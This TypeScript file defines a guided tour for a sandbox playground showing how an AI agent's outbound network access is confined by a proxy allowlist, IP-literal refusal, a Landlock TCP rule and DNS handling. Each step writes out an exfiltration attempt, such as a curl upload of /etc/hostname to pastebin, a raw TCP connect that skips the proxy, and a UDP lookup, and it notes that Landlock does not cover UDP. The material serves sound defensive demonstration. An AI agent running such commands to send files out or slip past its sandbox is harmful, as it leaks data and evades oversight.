import type { Decider, VerdictCode } from "../../../log";

/**
 * What a step waits for on the log. `proxy`: a proxy decision with this code and decider.
 * `kernel`: a `kernel.result` line (src/console/guest-lines.ts) with this errno name.
 * `dns`: a `wire.dns` query answered with this rcode.
 */
export type TourExpectation =
  | { kind: "proxy"; code: VerdictCode; by: Decider }
  | { kind: "kernel"; result: string; by: "kernel" }
  | { kind: "dns"; rcode: number; rcodeName: string; by: "kernel" };

/** One step of the guided tour: the task, the command to type, and what a pass means. */
export interface TourStep {
  id: string;
  /** Row of the verdict table (docs/decisions/0005-the-page-is-the-only-network-client.md) this step shows. */
  seedRow: number;
  /** That row, as the verdict table words it. */
  seedText: string;
  title: string;
  task: string;
  /** The command the hint shows (and "Type it for me" types). */
  command: string;
  hint: string;
  /** The panel where the outcome shows. */
  panel: "proxy" | "kernel" | "wire";
  expect: TourExpectation;
  /** Why the right outcome happened: which component refused, and on what rule. */
  explanation: string;
  /** Said after a wrong outcome: what to try instead. */
  retry: string;
}

/** The agent's Landlock policy in the playground: TCP only to the proxy's port. */
export const AGENT_POLICY = "llrun --ro / --rw /tmp --connect 3128 --";

/**
 * The tour, in order: try to send a file to pastebin, then the IP address, then
 * bypass the proxy, then DNS. Each step is a row of the verdict table.
 */
export const TOUR_STEPS: readonly TourStep[] = [
  {
    id: "pastebin",
    seedRow: 2,
    seedText: "GET https://pastebin.com/raw/… → 403 host not on the allowlist; logged (by .net)",
    title: "Send a file to pastebin",
    task: "You are an agent with a file to smuggle out. Upload /etc/hostname to pastebin.com with curl.",
    command: "curl -sS -T /etc/hostname https://pastebin.com/api/upload",
    hint: "curl in the guest goes through HTTPS_PROXY=http://10.0.2.2:3128, the page's proxy. Watch the Proxy panel.",
    panel: "proxy",
    expect: { kind: "proxy", code: "host-not-allowed", by: "proxy" },
    explanation:
      "Why: the proxy decides every request against the policy's host allowlist, and pastebin.com is not on it. The CONNECT was answered 403 before a single byte left the page, and the decision is on the log with its reason.",
    retry: "Upload the file to pastebin.com with the command in the hint.",
  },
  {
    id: "ip-literal",
    seedRow: 4,
    seedText: "GET https://93.184.216.34/ → 403 IP literals are refused (by .net)",
    title: "Try the IP address",
    task: "The name was refused. Perhaps the address is not: send a request to 93.184.216.34 directly.",
    command: "curl -sS https://93.184.216.34/",
    hint: "Any spelling of an address is recognised (0x5db8d822 is this one too). Watch the Proxy panel.",
    panel: "proxy",
    expect: { kind: "proxy", code: "ip-literal", by: "proxy" },
    explanation:
      "Why: the proxy allows names only. An address says nothing about who answers there and would step around the host allowlist, so an IP literal is refused in any spelling.",
    retry: "Send a request to the IP address 93.184.216.34, as in the hint.",
  },
  {
    id: "bypass",
    seedRow: 6,
    seedText:
      "a connect() from the agent's process straight to the internet, bypassing the proxy → EACCES: the agent's Landlock policy allows TCP only to .net's port (by the kernel)",
    title: "Bypass the proxy",
    task: "Skip the proxy altogether: open a TCP connection straight to 93.184.216.34:443, under the agent's Landlock policy (llrun, TCP to port 3128 only).",
    command: `${AGENT_POLICY} tcpconnect 93.184.216.34 443`,
    hint: "llrun applies the agent's Landlock ruleset, then runs tcpconnect, a raw connect() probe. Watch the Kernel panel.",
    panel: "kernel",
    expect: { kind: "kernel", result: "EACCES", by: "kernel" },
    explanation:
      "Why: the kernel refused the connect() itself. The Landlock ruleset llrun applied allows TCP connect only to port 3128, the proxy's, so no packet left the process: the Wire panel has no SYN for it.",
    retry: `Run the connect under the agent's policy: ${AGENT_POLICY} tcpconnect 93.184.216.34 443`,
  },
  {
    id: "dns",
    seedRow: 7,
    seedText:
      "a DNS lookup from the agent's process → nothing to look up with: an empty network namespace, or .net resolves (by the kernel, or .net); UDP is not seen by Landlock",
    title: "Use DNS",
    task: "TCP is closed. Try UDP: look up example.com with the page as the DNS server.",
    command: "nslookup example.com 10.0.2.2",
    hint: `It is the same under the agent's policy: ${AGENT_POLICY} nslookup example.com 10.0.2.2. Watch the Wire panel.`,
    panel: "wire",
    expect: { kind: "dns", rcode: 5, rcodeName: "REFUSED", by: "kernel" },
    explanation:
      "Why: Landlock's network rules cover TCP connect and bind only, so a ports-only policy does not stop UDP. The query left the guest and the page saw it on the wire (Wire panel); it answered REFUSED because nothing resolves names in the tab. What really closes this path is an empty network namespace (unshare -n), or letting .net resolve.",
    retry: "Look up a name over DNS with the command in the hint.",
  },
];

export function tourStep(id: string): TourStep | undefined {
  return TOUR_STEPS.find((s) => s.id === id);
}
